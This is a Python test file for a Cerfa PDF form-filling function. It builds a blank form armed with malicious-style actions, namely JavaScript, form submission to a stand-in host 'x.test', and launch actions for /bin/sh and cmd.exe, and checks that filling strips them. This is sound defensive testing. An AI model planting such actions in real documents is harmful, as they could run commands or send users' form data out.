"""An uploaded blank Cerfa carrying actions (opening script, page launch, field scripts, form
submission, XFA) is filled without any of them: the fields and their values stay."""

from __future__ import annotations

import io

import pikepdf

from app.documents.cerfa import cerfa_values, fill, load_form, read_values
from tests.documents.test_cerfa import official_like
from tests.documents.test_requete import requete


def script(text: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(text))


def armed_blank(key: str) -> bytes:
    """The test's fillable form, with an action at every level a viewer would run one."""
    with pikepdf.open(io.BytesIO(official_like(key))) as pdf:
        root = pdf.Root
        root.OpenAction = script("app.launchURL('http://x.test/open')")
        root.AA = pikepdf.Dictionary(WC=script("app.alert('close')"))
        root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(
            [pikepdf.String("a"), script("this.submitForm('http://x.test/')")])))
        root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
        page = pdf.pages[0].obj
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                          F=pikepdf.String("/bin/sh")))
        first, second = page.Annots[0], page.Annots[1]
        first.AA = pikepdf.Dictionary(K=script("app.alert('keystroke')"))
        second.A = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
                                      F=pikepdf.String("http://x.test/submit"))
        page.Annots.append(pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 10, 10]),
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))))
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def test_a_blank_form_with_actions_is_filled_without_them(session, owner):
    form = load_form("cerfa_12946")
    values = cerfa_values(requete(session, owner))
    filled = fill(form, armed_blank("cerfa_12946"), values)

    with pikepdf.open(io.BytesIO(filled)) as pdf:
        assert "/OpenAction" not in pdf.Root and "/AA" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", {})
        assert "/XFA" not in pdf.Root.AcroForm
        for page in pdf.pages:
            assert "/AA" not in page.obj
            for annotation in page.obj.get("/Annots", []):
                assert "/AA" not in annotation and "/A" not in annotation, annotation
        for field in pdf.Root.AcroForm.Fields:
            assert "/AA" not in field and "/A" not in field
    back = read_values(form, filled)
    assert back["creditor.name"] == "Menuiserie Lefèvre"
    assert back["claim.total"] == "4 558,43 €"
